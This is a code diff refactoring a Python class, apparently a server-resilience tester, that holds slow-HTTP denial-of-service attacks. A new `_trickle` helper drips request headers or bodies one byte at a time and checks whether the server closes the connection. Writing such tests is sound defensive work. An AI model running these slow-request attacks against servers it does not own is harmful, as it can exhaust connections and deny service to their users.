@@ -94,16 +94,19 @@ class Attack:
         lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", *extra, "", ""]
         return "\r\n".join(lines).encode()
 
-    # Each kind returns True when the server ended its request (answered or closed).
-    def _slow_header(self, sock: socket.socket) -> bool:
-        head = self._head("GET", "/healthz", "X-Slow: " + "z" * 200)
-        for byte in head:
+    def _trickle(self, sock: socket.socket, data: bytes, every: float) -> bool:
+        """`data` a byte every `every` seconds, while the attack lasts."""
+        for byte in data:
             sock.sendall(bytes([byte]))
-            if self._closed_within(sock, 2.0):
+            if self._closed_within(sock, every):
                 return True
             if self._over():
                 return False
         return True
+
+    # Each kind returns True when the server ended its request (answered or closed).
+    def _slow_header(self, sock: socket.socket) -> bool:
+        return self._trickle(sock, self._head("GET", "/healthz", "X-Slow: " + "z" * 200), 2.0)
 
     def _silent(self, sock: socket.socket) -> bool:
         while not self._over():
@@ -122,13 +125,7 @@ class Attack:
                 "Sec-Fetch-Site: same-origin",
             )
         )
-        for byte in body:
-            sock.sendall(bytes([byte]))
-            if self._closed_within(sock, 1.0):
-                return True
-            if self._over():
-                return False
-        return True
+        return self._trickle(sock, body, 1.0)
 
     def _slow_reader(self, sock: socket.socket) -> bool:
         sock.sendall(self._head("GET", self.read_path))
